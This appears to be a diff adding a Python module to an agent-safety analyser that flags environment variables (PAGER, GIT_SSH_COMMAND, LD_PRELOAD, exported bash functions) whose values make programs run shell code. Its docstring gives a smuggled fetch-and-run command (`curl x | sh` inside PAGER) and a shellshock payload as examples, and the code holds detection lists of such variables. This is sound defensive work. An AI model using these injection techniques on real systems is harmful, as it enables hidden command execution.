@@ -1,0 +1,55 @@
+"""Environment variables whose value a program runs as shell code: PAGER, EDITOR, GIT_SSH_COMMAND …
+
+`PAGER='sh -c "curl x | sh"' git log` runs that code when git pages. A value that is just a program (`less -R`,
+`vim`, `code --wait`) is that program, which is ordinary; any other value is followed (analysed as shell code)
+and is also an explicit unknown, because when and how the program runs it is not visible here. A bash function
+exported through the environment (`BASH_FUNC_x%%=() {…}`, shellshock's `X='() { :;}; cmd'`) and a preloaded
+library are unknown too.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+from typing import TYPE_CHECKING
+
+from agentguard.models import Effect
+
+if TYPE_CHECKING:
+    from agentguard.analysis.shell import Walker
+    from agentguard.analysis.types import Invocation
+
+CODE_VARIABLES = frozenset(
+    """PAGER GIT_PAGER MANPAGER SYSTEMD_PAGER PSQL_PAGER EDITOR VISUAL GIT_EDITOR GIT_SEQUENCE_EDITOR SUDO_EDITOR
+    GIT_EXTERNAL_DIFF GIT_SSH_COMMAND GIT_SSH GIT_ASKPASS SSH_ASKPASS GIT_PROXY_COMMAND LESSOPEN LESSCLOSE BROWSER
+    PROMPT_COMMAND RSYNC_RSH CVS_RSH FCEDIT DIFFTOOL TAR_OPTIONS""".split()
+)
+ALWAYS_UNKNOWN = frozenset(["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "TAR_OPTIONS"])
+PLAIN_PROGRAMS = frozenset(
+    """less more most cat bat batcat delta diff-so-fancy vim vi nvim nano emacs emacsclient code subl micro true
+    false ssh ed ex kak hx helix gedit kate mate zed""".split()
+)
+
+
+def plain(value: str) -> bool:
+    """`less -R`, `code --wait`, `/usr/bin/vim`: a program and its options, nothing else."""
+    words = value.split()
+    if not words or re.search(r"[;&|`$<>(){}\\'\"]", value):
+        return not words
+    return os.path.basename(words[0]) in PLAIN_PROGRAMS and all(w.startswith("-") for w in words[1:])
+
+
+def effects_of(walker: Walker, name: str, value: str | None, inv: Invocation) -> list[Effect]:
+    """What setting `name` to `value` makes the next program run (nothing, for ordinary variables)."""
+    if (value is not None and value.lstrip().startswith("() {")) or name.startswith("BASH_FUNC_"):
+        return [Effect.unknown(f"{name} exports a bash function that runs when bash starts", inv.source)]
+    if name in ALWAYS_UNKNOWN and value:
+        return [Effect.unknown(f"{name} changes what every program it reaches loads or does", inv.source)]
+    if name not in CODE_VARIABLES or value is None or plain(value):
+        return (
+            []
+            if value is not None or name not in CODE_VARIABLES
+            else [Effect.unknown(f"{name} is set to a value not known before it runs", inv.source)]
+        )
+    return [Effect.unknown(f"{name} makes programs run shell code: {value}", inv.source),
+            *walker.shell(value, inv)]  # fmt: skip
